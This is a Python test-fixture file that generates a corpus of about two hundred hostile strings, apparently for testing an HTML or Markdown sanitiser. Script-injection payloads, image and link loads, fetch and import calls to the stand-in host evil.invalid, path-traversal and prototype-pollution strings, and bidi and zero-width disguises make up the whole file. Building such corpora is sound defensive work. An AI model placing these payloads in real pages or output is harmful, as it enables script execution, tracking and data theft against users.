"""Two hundred strings that try to run, load, link or disguise something.

Templates times sinks: scripts, event handlers, SVG and MathML, style, frames, Markdown links and
images, reference links, template syntax, bidirectional and zero-width characters. Each calls
``alert`` or asks for something of ``evil.invalid`` if it works.
"""

from __future__ import annotations

ELSEWHERE = "https://evil.invalid/x"

_RUN = ("alert(1)", "fetch('https://evil.invalid/x')", "import('https://evil.invalid/x.js')")

_MARKUP = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<script src=https://evil.invalid/x></script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<ScRiPt\n>{run}</sCrIpT\t>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'//",
    '"><img src=x onerror={run}>',
    "'><svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text>go</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<math href='javascript:{run}'>go</math>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<form action='javascript:{run}'><button autofocus>go</button></form>",
    "<input autofocus onfocus={run}>",
    "<a href='javascript:{run}'>go</a>",
    "<a href='java\tscript:{run}'>go</a>",
    "<a href='data:text/html,<script>{run}</script>'>go</a>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<style>@import 'https://evil.invalid/x';</style><p onclick={run}>",
    "<textarea></textarea><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\u003cimg src=x onerror={run}\u003e",
    "<xss style='animation:x' onanimationstart={run}>",
    "<p id=x tabindex=1 onfocus={run} autofocus>",
    "[go](javascript:{run})",
    "[go](<javascript:{run}>)",
    "![x](x 'onerror={run}')",
    '![x]("onerror="{run})',
    "`<img src=x onerror={run}>`",
    "```html\n<script>{run}</script>\n```",
    "> <img src=x onerror={run}>",
    "- <svg onload={run}>",
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{% raw %}}<script>{run}</script>{{% endraw %}}",
    "<passage-chat question='x' onclick={run}></passage-chat>",
    "\u202e<img src=x onerror={run}>\u202c",
    "<\u200bscript>{run}</\u200bscript>",
    "\ufeff<script>{run}</script>",
)

_LOADS = (
    "![x](https://evil.invalid/x)",
    "![x][r]\n\n[r]: https://evil.invalid/x",
    "[![x](https://evil.invalid/x)](https://evil.invalid/x)",
    "[go](https://evil.invalid/x?leak=1)",
    "[go][r]\n\n[r]: https://evil.invalid/x 'title'",
    "<https://evil.invalid/x>",
    "https://evil.invalid/x",
    "<img src=https://evil.invalid/x>",
    "<img srcset='https://evil.invalid/x 1x'>",
    "<picture><source srcset=https://evil.invalid/x><img></picture>",
    "<link rel=stylesheet href=https://evil.invalid/x>",
    "<link rel=prefetch href=https://evil.invalid/x>",
    "<link rel=dns-prefetch href=//evil.invalid>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/x'>",
    "<p style='background:url(https://evil.invalid/x)'>",
    "<style>*{background:url(https://evil.invalid/x)}</style>",
    "<svg><image href=https://evil.invalid/x /></svg>",
    "<svg><use href=https://evil.invalid/x#a></use></svg>",
    "<video poster=https://evil.invalid/x></video>",
    "<audio autoplay src=https://evil.invalid/x></audio>",
    "<track src=https://evil.invalid/x>",
    "<object data=https://evil.invalid/x></object>",
    "<iframe src=https://evil.invalid/x></iframe>",
    "<a ping=https://evil.invalid/x href=/>go</a>",
    "<body background=https://evil.invalid/x>",
    "<input type=image src=https://evil.invalid/x>",
    "<table background=https://evil.invalid/x>",
    "<script type=module>import 'https://evil.invalid/x'</script>",
    "<portal src=https://evil.invalid/x></portal>",
)

_DISGUISES = (
    "\u202eexe.fdp\u202c",
    "\u2066\u202egnp.x\u2069",
    "a\u200b\u200c\u200d\u2060b",
    "\u200f\u200e\u061c",
    "\u0000\u0007\u001b[31m".replace("\u0000", ""),
    "Z\u0351\u0363\u0344a\u0315l\u035cg\u0321o\u0489" * 8,
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") * 40,
    "\ue0000\ue001\ue00099\ue001",
    "[1] [2][99] [x]",
    "[1](https://evil.invalid/x)",
    "__proto__",
    "constructor",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "../../../etc/passwd",
    "..\\..\\windows",
    "A" * 300,
    "\n\n\n",
    "\t\r\n",
    'data: {"type":"finish"}\n\n',
    "event: x\ndata: [DONE]",
)

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(template.format(run=run) for template in _MARKUP for run in _RUN),
            *_LOADS,
            *_DISGUISES,
        )
    )
)
